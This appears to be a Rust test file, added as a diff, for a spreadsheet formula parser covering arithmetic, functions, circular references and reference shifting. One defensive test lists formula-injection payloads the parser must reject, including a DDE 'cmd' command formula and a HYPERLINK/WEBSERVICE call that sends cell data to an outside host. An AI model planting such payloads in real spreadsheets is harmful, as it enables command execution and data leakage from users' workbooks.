@@ -1,0 +1,98 @@
+use super::*;
+
+fn grid() -> Grid {
+    let mut grid = Grid::default();
+    for (row, value) in [1.0, 2.0, 3.5].into_iter().enumerate() {
+        grid.set(row as u32, 0, Value::Number(value));
+        grid.set(row as u32, 1, Value::Text(format!("t{row}")));
+    }
+    grid
+}
+
+fn compute(source: &str) -> Value {
+    let mut grid = grid();
+    grid.set_formula(9, 9, parse(source).unwrap());
+    grid.compute(9, 9).unwrap()
+}
+
+#[test]
+fn formulas_are_computed_as_a_spreadsheet_would() {
+    for (source, value) in [
+        ("=1+2*3^2", Value::Number(19.0)),
+        ("=-2^2", Value::Number(4.0)),
+        ("=(1+2)*50%", Value::Number(1.5)),
+        ("=SUM(A1:A3)", Value::Number(6.5)),
+        ("=sum(a1:$A$3, 1)", Value::Number(7.5)),
+        ("=AVERAGE(A1:A3,B1)", Value::Number(6.5 / 3.0)),
+        ("=MEDIAN(A1:A3)", Value::Number(2.0)),
+        ("=COUNTA(A1:B4)", Value::Number(6.0)),
+        ("=COUNTIF(A1:A3,\">1\")", Value::Number(2.0)),
+        ("=SUMIF(B1:B3,\"T1\",A1:A3)", Value::Number(2.0)),
+        ("=IF(A1>0,\"y\",\"n\")&\"!\"", Value::Text("y!".into())),
+        ("=IF(A9=0,B2)", Value::Text("t1".into())),
+        ("=1/0", Value::Error("#DIV/0!")),
+        ("=IFERROR(1/0,7)", Value::Number(7.0)),
+        ("=A1+B1", Value::Error("#VALUE!")),
+        ("=ROUND(2.675,2)", Value::Number(2.68)),
+        ("=ROUNDUP(-1.1,0)", Value::Number(-2.0)),
+        ("=MOD(-1,3)", Value::Number(2.0)),
+        ("=MID(\"abcdef\",2,3)", Value::Text("bcd".into())),
+        ("=RIGHT(\"a\"\"b\",2)", Value::Text("\"b".into())),
+        ("=AND(A1=1,NOT(FALSE))", Value::Bool(true)),
+    ] {
+        assert_eq!(compute(source), value, "{source}");
+    }
+}
+
+#[test]
+fn s15_what_reaches_out_of_the_workbook_is_no_formula() {
+    for source in [
+        "=cmd|'/c calc'!A0",
+        "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
+        "=WEBSERVICE(\"https://example.org/x\")",
+        "=IMPORTXML(\"https://example.org\",\"//a\")",
+        "='[other.xlsx]Sheet1'!A1",
+        "=Sheet2!A1",
+        "=[1]Sheet1!A1",
+        "=INDIRECT(\"A1\")",
+        "=RTD(\"x\")",
+        "=CALL(\"k\")",
+        "=_xlfn.WEBSERVICE(\"x\")",
+        "=not a formula, a sentence",
+        "=@SUM(A1)",
+        "=+1+cmd",
+        "=A0",
+        "=A1:B",
+        "=XFE1",
+        "=1;2",
+        "={1,2}",
+        "=\"open",
+        "=",
+        "=SUM(",
+        "=ABS()",
+    ] {
+        assert!(parse(source).is_err(), "{source}");
+    }
+    assert!(parse(&format!("={}1{}", "(".repeat(40), ")".repeat(40))).unwrap_err().contains("32"));
+    assert!(parse(&format!("={}", "1+".repeat(600))).unwrap_err().contains("1000"));
+}
+
+#[test]
+fn circles_end_without_a_value() {
+    let mut grid = grid();
+    grid.set_formula(5, 0, parse("=A7+1").unwrap());
+    grid.set_formula(6, 0, parse("=SUM(A1:A6)").unwrap());
+    assert_eq!(grid.compute(5, 0), None);
+    assert_eq!(grid.compute(6, 0), None);
+    grid.set_formula(9, 0, parse("=SUM(A1:XFD1048576)").unwrap());
+    assert_eq!(grid.compute(9, 0), None);
+}
+
+#[test]
+fn references_move_with_their_table() {
+    let formula = parse("=sum($a$1:B2)*c3-\"a\"\"b\"").unwrap();
+    assert_eq!(formula.write(0), "SUM($A$1:B2)*C3-\"a\"\"b\"");
+    assert_eq!(formula.write(10), "SUM($A$11:B12)*C13-\"a\"\"b\"");
+    assert_eq!(parse("=XFD1").unwrap().write(0), "XFD1");
+    assert_eq!(parse("=AA1").unwrap().write(0), "AA1");
+}
